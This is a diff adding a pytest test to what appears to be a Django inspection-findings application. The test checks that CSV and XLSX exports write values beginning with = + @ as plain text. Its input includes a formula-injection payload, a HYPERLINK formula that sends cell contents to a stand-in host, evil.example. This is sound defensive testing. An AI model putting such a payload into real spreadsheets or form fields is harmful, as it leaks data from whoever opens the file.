@@ -339,6 +339,37 @@ def test_findings_xlsx_export(findings, auditor):
     assert sorted(row[1] for row in values[1:]) == ["漏报", "迟报", "迟报"]
 
 
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exported_text_a_spreadsheet_would_run_as_a_formula_stays_text(findings, auditor, units, fmt):
+    """CSV/formula injection: a review reason or a unit name starting with = + - @ is written as text."""
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    finding = findings.filter(kind="late").first()
+    assert (
+        client_for(auditor)
+        .post(f"/api/v1/findings/{finding.pk}/review/", {"decision": "confirmed", "reason": reason}, format="json")
+        .status_code
+        == 200
+    )
+    units["sijing"].name = "+泗泾镇"
+    units["sijing"].save()
+    findings_file = client_for(auditor).get(f"/api/v1/findings/?format={fmt}", HTTP_ACCEPT="*/*")
+    stats_file = client_for(auditor).get(f"/api/v1/stats/timeliness/?format={fmt}", HTTP_ACCEPT="*/*")
+    if fmt == "csv":
+        finding_rows, stats_rows = _csv_rows(findings_file), _csv_rows(stats_file)
+    else:
+        book = load_workbook(io.BytesIO(findings_file.content))
+        finding_rows = [list(r) for r in book["督查发现"].values]
+        assert all(c.data_type != "f" for row in book["督查发现"].iter_rows() for c in row)
+        stats_book = load_workbook(io.BytesIO(stats_file.content))
+        stats_rows = [list(r) for r in stats_book["及时率统计"].values]
+        assert all(c.data_type != "f" for row in stats_book["及时率统计"].iter_rows() for c in row)
+    header = finding_rows[0]
+    reviewed = next(r for r in finding_rows[1:] if str(r[0]) == str(finding.pk))
+    assert reviewed[header.index("审核理由")] == "'" + reason
+    assert "'+泗泾镇" in [r[1] for r in stats_rows[1:]]
+    assert all(not str(cell).startswith(("=", "+", "@")) for row in finding_rows + stats_rows for cell in row if cell)
+
+
 # --- export language ---------------------------------------------------------------------------------------------
 
 #: The whole default CSV of the ``findings`` fixture, byte for byte as existing clients get it (Chinese).
